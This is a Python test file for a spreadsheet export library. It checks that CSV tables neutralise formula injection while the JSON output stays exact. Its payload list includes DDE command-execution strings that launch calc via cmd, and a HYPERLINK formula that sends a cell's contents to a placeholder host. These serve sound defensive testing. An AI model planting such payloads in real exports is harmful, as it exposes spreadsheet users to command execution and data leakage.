"""A spreadsheet that opens our tables finds no formula in them, whichever separator it cuts at."""

import csv
import io
import json
import re
import zipfile
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from habeas_fulfilment.package.tables import Rows, is_calm, write_cell

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "x|=1+1",
    '"=1+1',
    '"";=1+1',
    "x;=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "x\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1)',
    "-2+3+cmd|' /C calc'!D2",
]
_LIVE = re.compile("[\\s\"'\u200b\ufeff\0]*[=+\\-@＝＋－＠]")
_NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")


def alive(text: str) -> list[str]:
    """List the cells that any spreadsheet would run, for each separator it may be set to."""
    found = []
    for delimiter in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                told = cell.lstrip(' \u00a0\ufeff\u200b\0"')
                if not told.startswith("'") and _LIVE.match(cell) and not _NUMBER.fullmatch(cell):
                    found.append(cell)
    return found


def test_the_payloads_are_26_and_alive_without_protection() -> None:
    assert len(set(PAYLOADS)) == 26
    assert [payload for payload in PAYLOADS if not alive(_plain_csv(payload))] == []


def _plain_csv(value: str) -> str:
    out = io.StringIO()
    csv.writer(out).writerow(["1", value])
    return out.getvalue()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_is_alive_in_the_table_and_each_is_exact_in_the_json(release: Any, payload: str) -> None:
    places = [
        {"first": payload, "middle": "x", "last": "y"},
        {"first": "x", "middle": payload, "last": "y"},
        {"first": "x", "middle": "y", "last": payload},
        {"first": "x", payload: "a name of a column", "nested": {payload: [payload]}},
    ]
    for data in places:
        record = {"kind": "orders", "key": payload, "activity": payload, "data": data, "attachments": []}
        with zipfile.ZipFile(io.BytesIO(release.package(lambda record=record: iter([record])))) as archive:
            text = archive.read("data/systems/shop/orders.csv").decode("utf-8-sig")
            exact = json.loads(archive.read("data/systems/shop/orders.json"))
        assert alive(text) == []
        assert exact == [record]


@given(st.lists(st.one_of(st.text(max_size=9), st.integers(), st.floats(allow_nan=False), st.none(), st.booleans())))
def test_a_calm_row_is_written_as_any_other(values: list[Any]) -> None:
    values = [*values, [1, "a,b"], {"a": "b"}]
    plain, calm = Rows(), Rows()
    plain.add(["x", *values])
    if is_calm(json.dumps(values, ensure_ascii=False)):
        calm.add_calm(["x", *values])
        assert calm.take() == plain.take()


@given(st.text(alphabet="=+-@;\t\r\n|,'\"\0 ＝ax1\u200b", max_size=12))
def test_no_mixture_is_alive_either(text: str) -> None:
    rows = Rows()
    rows.add(["1", text, "end"])
    rows.add([text, text, text])
    assert alive(rows.take().decode()) == []


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, -5),
        (1.5, 1.5),
        (True, "true"),
        (None, ""),
        ("plain", "plain"),
        ("Storgatan 1, Umeå", "Storgatan 1, Umeå"),
        ("a-b=c", "a-b=c"),
        ("-5", "'-5"),
        ("+46 70 123", "'+46 70 123"),
        ([1, "=2"], '[1,"=2"]'),
        ("", ""),
    ],
)
def test_harmless_values_stay_as_they_are(value: Any, cell: Any) -> None:
    assert write_cell(value) == cell


@given(st.lists(st.text(alphabet='abc åäö,"\n', max_size=8), min_size=1, max_size=5))
def test_what_needs_no_protection_is_read_back_exactly(values: list[str]) -> None:
    rows = Rows()
    rows.add(["x", *values])
    assert next(csv.reader(io.StringIO(rows.take().decode(), newline=""))) == ["x", *values]
